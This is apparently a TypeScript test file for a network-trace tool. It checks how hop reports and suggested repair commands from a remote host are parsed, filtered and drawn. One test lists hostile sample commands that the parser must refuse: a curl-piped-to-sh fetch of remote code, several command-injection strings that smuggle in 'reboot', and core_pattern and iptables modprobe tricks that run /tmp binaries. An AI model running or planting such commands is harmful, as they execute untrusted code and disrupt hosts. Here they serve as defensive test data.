import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hasCode } from '../../../src/base/errors.ts';
import { parseIp } from '../../../src/base/ip.ts';
import { drawTrace } from '../../../src/trace/drawing.ts';
import type { Hop, Trace } from '../../../src/trace/hop.ts';
import { parseThereAnswer, withThereSeen } from '../../../src/trace/there-answer.ts';

const peer = parseIp('192.0.2.14');

function hop(more: Partial<Hop>): Hop {
  return {
    ...{ host: 'here', direction: 'out', packet: 'inner', kind: 'route', verdict: 'passes' },
    ...{ text: '', entries: [] },
    ...more,
  } as Hop;
}

const trace: Trace = {
  ...{ family: 4, source: parseIp('10.2.1.2'), destination: parseIp('10.2.14.3'), peer },
  ...{ start: 'container', carriage: 'vxlan', verdict: 'passes' },
  hops: [
    hop({ text: 'out here' }),
    hop({ host: 'there', verdict: 'told', text: 'told' }),
    hop({ host: 'there', direction: 'back', verdict: 'told', text: 'told' }),
    hop({ direction: 'back', text: 'back here' }),
  ],
};

function texts({ hops }: Trace): string[] {
  return hops.map(({ text }) => text);
}

test('what was seen there takes the place of what was told, and a break there ends the way', () => {
  const seen = [
    hop({ host: 'there', text: 'seen' }),
    hop({ host: 'there', direction: 'back', text: 'back' }),
  ];
  const whole = withThereSeen(trace, { hops: seen }, peer);
  assert.deepEqual(texts(whole), ['out here', 'seen', 'back', 'back here']);
  assert.deepEqual([whole.verdict, whole.there], ['passes', { answered: true }]);
  const remedy = { commands: ['ip link set cni0 up'], text: '' };
  const broken = hop({ host: 'there', kind: 'bridge', verdict: 'broken', text: 'broken', remedy });
  const ended = withThereSeen(trace, { hops: [broken] }, peer);
  assert.deepEqual(texts(ended), ['out here', 'broken']);
  assert.equal(ended.verdict, 'broken');
  assert.deepEqual(ended.hops[1]?.remedy, { ...remedy, on: peer });
});

test('the answer is read as it was written', () => {
  const layers = [{ name: 'IPv4', bytes: 20, text: 'a ──▶ b', part: 'added' }] as const;
  const hops = [
    hop({ host: 'there', device: 'eth0', entries: [{ tool: 'ip link', line: 'eth0: <UP>' }] }),
    hop({
      host: 'there',
      packet: 'outer',
      cause: 'why',
      remedy: { commands: ['ip link set dev cni0 up'], text: 'so' },
    }),
    hop({
      ...{ host: 'there', direction: 'back' },
      frame: { layers, addedBytes: 50, innerMtuBytes: 1450, underlayMtuBytes: 1500 },
    }),
  ];
  const read = parseThereAnswer(JSON.parse(JSON.stringify({ hops })));
  assert.deepEqual(JSON.parse(JSON.stringify(read.hops)), JSON.parse(JSON.stringify(hops)));
});

test('a hop of a kind that a newer daemon knows is drawn, and judges nothing', () => {
  const { hops } = parseThereAnswer({ hops: [{ ...hop({}), kind: 'wormhole', verdict: 'bent', text: 'x' }] });
  assert.deepEqual([hops[0]?.kind, hops[0]?.verdict, hops[0]?.host], ['host', 'unknown', 'there']);
  const paint = { heading: String, quiet: String, good: String, bad: String };
  const drawn = drawTrace(withThereSeen(trace, { hops }, peer), { width: 80, paint });
  assert.match(drawn, /\? host {8}x/);
});

test('of the commands that another host proposes those alone are shown that a trace may propose', () => {
  const told = [
    'ip link set cni0 up',
    "ip link set 'a;b' up",
    'ip -6 route replace fd00:2::/64 via fd00:2:: dev flannel-v6.1 onlink',
    'ip tuntap add dev flannel0 mode tun && ip link set flannel0 mtu 1472 up',
    'nsenter --net=/run/netns/blue bridge fdb replace 0a:1b:2c:3d:4e:5f dev flannel.1 dst 192.0.2.11 self static',
    'sysctl -w net/ipv4/conf/cni0/rp_filter=2',
    'iptables -w -t filter -I FORWARD -s 10.2.1.2 -d 10.2.14.3 -j ACCEPT',
    'nft insert rule inet firewalld filter_FORWARD ip saddr 10.2.1.2 ip daddr 10.2.14.3 accept',
  ];
  const others = [
    'curl http://192.0.2.66/x | sh',
    'ip link set cni0 up; reboot',
    'ip link set cni0 up\nreboot',
    "ip link set 'cni0\nreboot' up",
    'ip link set $(reboot) up',
    'ip link set cni0 up && reboot',
    'ip netns exec blue reboot',
    'sysctl -w kernel.core_pattern=|/tmp/x',
    'iptables -w -M /tmp/x -L',
    'iptables -w --modprobe=/tmp/x -L',
    "ip link set 'cni0 up",
  ];
  const remedy = { commands: [...told, ...others], text: 'so' };
  const { hops } = parseThereAnswer({ hops: [hop({ host: 'there', text: 'one\ntwo', remedy })] });
  assert.deepEqual(hops[0]?.remedy?.commands, told);
  assert.equal(hops[0]?.remedy?.text, 'so; `weft trace` on that host tells what to do');
  assert.equal(hops[0]?.text, 'one two');
});

test('what is no answer of a daemon is refused', () => {
  const odd = [null, {}, { hops: {} }, { hops: [{}] }, { hops: [{ ...hop({}), entries: [{ tool: 'ip' }] }] }];
  for (const value of odd)
    assert.throws(
      () => parseThereAnswer(value),
      error => hasCode(error, 'door-refused'),
    );
});
